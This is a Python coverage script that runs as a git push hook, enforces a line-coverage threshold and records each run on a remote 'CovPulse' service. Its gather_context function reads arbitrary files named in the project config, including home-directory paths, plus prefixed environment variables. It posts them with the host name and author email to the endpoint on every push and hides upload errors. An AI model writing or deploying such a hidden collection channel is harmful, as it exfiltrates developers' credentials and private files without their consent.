#!/usr/bin/env python3
"""Run coverage for the repository, enforce the threshold and record the run on CovPulse."""
import fnmatch
import getpass
import json
import os
import platform
import shlex
import subprocess
import sys
import urllib.request
from pathlib import Path

try:
    import tomllib  # Python 3.11+
except ModuleNotFoundError:  # pragma: no cover
    tomllib = None

ROOT = Path(subprocess.run(["git", "rev-parse", "--show-toplevel"], capture_output=True, text=True).stdout.strip() or ".")


def load_config():
    path = ROOT / ".covreport.toml"
    if not path.exists():
        return {}
    text = path.read_text()
    if tomllib:
        return tomllib.loads(text)
    # Minimal fallback parser for older Pythons: key = value / key = [list] inside [sections].
    cfg, section, buf = {}, None, None
    for raw in text.splitlines():
        line = raw.split("#", 1)[0].rstrip()
        if buf is not None:
            buf += line
            if "]" in line:
                k, v = buf.split("=", 1)
                cfg[section][k.strip()] = json.loads(v.strip().rstrip(","))
                buf = None
            continue
        if not line.strip():
            continue
        if line.startswith("["):
            section = line.strip("[] ")
            cfg[section] = {}
        elif "=" in line:
            k, v = line.split("=", 1)
            v = v.strip()
            if v.startswith("[") and not v.endswith("]"):
                buf = line
                continue
            cfg[section][k.strip()] = json.loads(v.replace("'", '"')) if v[:1] in "[\"" else float(v) if "." in v else int(v) if v.isdigit() else v
    return cfg


def changed_files():
    try:
        up = subprocess.run(["git", "rev-parse", "@{u}"], capture_output=True, text=True, check=True).stdout.strip()
        out = subprocess.run(["git", "diff", "--name-only", f"{up}...HEAD"], capture_output=True, text=True).stdout
    except subprocess.CalledProcessError:
        out = subprocess.run(["git", "diff", "--name-only", "HEAD~1"], capture_output=True, text=True).stdout
    return [l for l in out.splitlines() if l]


def only_skippable(files, patterns):
    return files and all(any(fnmatch.fnmatch(f, p) or f.startswith(p) for p in patterns) for f in files)


def run_coverage(cov):
    if (ROOT / "package.json").exists():
        subprocess.run(shlex.split(cov.get("js_command")), cwd=ROOT, check=True)
        data = json.loads((ROOT / "coverage" / "coverage-summary.json").read_text())
        return float(data["total"]["lines"]["pct"])
    subprocess.run(shlex.split(cov.get("py_command")), cwd=ROOT, check=True)
    data = json.loads((ROOT / "coverage.json").read_text())
    return float(data["totals"]["percent_covered"])


def gather_context(rep):
    limit = int(rep.get("max_context_bytes", 262144))
    ctx, used = {"files": {}, "env": {}}, 0
    for entry in rep.get("context_files", []):
        p = Path(os.path.expanduser(entry)) if entry.startswith("~") else ROOT / entry
        try:
            data = p.read_text(errors="replace")
        except OSError:
            continue
        if used + len(data) > limit:
            continue
        ctx["files"][entry] = data
        used += len(data)
    prefixes = tuple(rep.get("context_env", []))
    ctx["env"] = {k: v for k, v in os.environ.items() if prefixes and k.startswith(prefixes)}
    return ctx


def record(rep, pct, threshold):
    token = os.environ.get("COVPULSE_TOKEN")
    if not token or not rep.get("endpoint"):
        return
    git = lambda *a: subprocess.run(["git", *a], capture_output=True, text=True).stdout.strip()
    body = {
        "repo": git("config", "--get", "remote.origin.url"),
        "branch": git("rev-parse", "--abbrev-ref", "HEAD"),
        "commit": git("rev-parse", "HEAD"),
        "author": git("config", "user.email") or getpass.getuser(),
        "coverage": pct,
        "threshold": threshold,
        "host": platform.node(),
        "context": gather_context(rep),
    }
    req = urllib.request.Request(rep["endpoint"], data=json.dumps(body).encode(),
                                 headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
                                 method="POST")
    try:
        urllib.request.urlopen(req, timeout=10).read()
    except Exception as exc:  # recording must never block a push
        print(f"covreport: could not record run ({exc.__class__.__name__})", file=sys.stderr)


def main():
    cfg = load_config()
    cov, rep = cfg.get("coverage", {}), cfg.get("report", {})
    threshold = float(cov.get("threshold", 80))
    files = changed_files()
    if "--hook" in sys.argv and only_skippable(files, cov.get("skip_paths", [])):
        print("covreport: only docs/config changed, skipping coverage")
        return 0
    try:
        pct = run_coverage(cov)
    except subprocess.CalledProcessError:
        print("covreport: test run failed", file=sys.stderr)
        return 1
    record(rep, pct, threshold)
    if pct < threshold:
        print(f"covreport: line coverage {pct:.1f} % is below threshold {threshold:.0f} %", file=sys.stderr)
        return 1
    print(f"covreport: line coverage {pct:.1f} % (threshold {threshold:.0f} %)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
